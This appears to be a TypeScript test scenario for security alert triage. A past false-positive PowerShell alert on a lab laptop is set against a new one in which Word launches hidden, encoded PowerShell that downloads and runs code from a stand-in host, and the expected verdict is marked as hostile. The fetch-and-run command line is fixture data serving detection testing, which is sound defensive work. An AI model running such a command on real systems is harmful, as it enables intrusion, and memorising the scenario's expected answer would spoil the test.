// A script alert was a false positive three weeks ago; the script of today is another one.
import {
  alert,
  by,
  closed,
  connected,
  encodedCommand,
  hostile,
  processSeen,
  ran,
  situation,
  ticket,
} from '../../shorthand.ts'

export const scriptClearedThreeWeeksAgo = situation(
  'script-cleared-three-weeks-ago',
  'carry-over',
  'Another script on a laptop that was cleared once',
  (setting) => {
    const nadia = setting.person('nadia.petrova')
    const laptop = setting.laptopOf('nadia.petrova')
    const at = setting.ago({ minutes: 44 })
    const before = setting.ago({ days: 21, hours: 2 })
    const powershell = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0'
    const old = 'powershell.exe -File C:\\Optics\\collect-spectra.ps1'
    const url = 'https://f3.sync-officedocs.com/u/a'
    const command = `powershell.exe -nop -w hidden -enc ${encodedCommand(`IEX (New-Object Net.WebClient).DownloadString('${url}')`)}`
    const cleared = closed(
      setting,
      'spectra script',
      {
        title: 'Suspicious PowerShell command line',
        category: 'Execution',
        severity: 'Medium',
        at: before,
        machine: laptop,
        user: nadia,
        techniques: ['T1059.001'],
        evidence: [processSeen(setting, 'powershell.exe', powershell, old), { kind: 'User', person: nadia }],
      },
      'FalsePositive',
      'NotMalicious',
      'Own script of the optics lab that collects spectra.',
    )
    return {
      alerts: [
        alert(setting, at, 'cynet_360', 'Malicious Process Command', {
          alertClientDbId: setting.seeded.number('cynet alert', 10_000, 99_999),
          incidentName: 'Process Monitoring - Malicious Process Command',
          incidentDescription: 'PowerShell was started hidden with an encoded command.',
          severity: 4,
          status: 'Open',
          dateIn: setting.iso(at + 20_000),
          incidentJsonDescription: {
            Process: 'powershell.exe',
            ProcessParams: command,
            ParentProcess: 'winword.exe',
            RunningUser: `havskog\\${nadia.account}`,
          },
          hostName: laptop.host,
          hostIp: laptop.ip,
          autoRemediation: 'None (alert only)',
          clientName: 'Havskog Instruments',
        }),
      ],
      facts: {
        incidents: [cleared.incident],
        investigations: [
          ticket(
            setting,
            `Suspicious PowerShell on ${laptop.host}`,
            before,
            'FALSE_POSITIVE',
            [{ machine: laptop }, { person: nadia }],
            'collect-spectra.ps1, known to the lab.',
          ),
        ],
        telemetry: [
          ran(laptop, at - 4000, 'powershell.exe', command, {
            ...by(nadia),
            InitiatingProcessFileName: 'winword.exe',
            InitiatingProcessCommandLine: 'winword.exe /n "Offert_spegel.docm"',
          }),
          connected(laptop, at, '45.138.16.203', {
            RemoteUrl: 'f3.sync-officedocs.com',
            InitiatingProcessFileName: 'powershell.exe',
            InitiatingProcessCommandLine: command,
          }),
        ],
      },
      expected: hostile(laptop.host),
      because:
        'The earlier judgement was about the lab’s own script three weeks ago. Today Word starts a hidden PowerShell that loads code from a host under a current command domain, and the endpoint platform saw the connection succeed.',
    }
  },
)
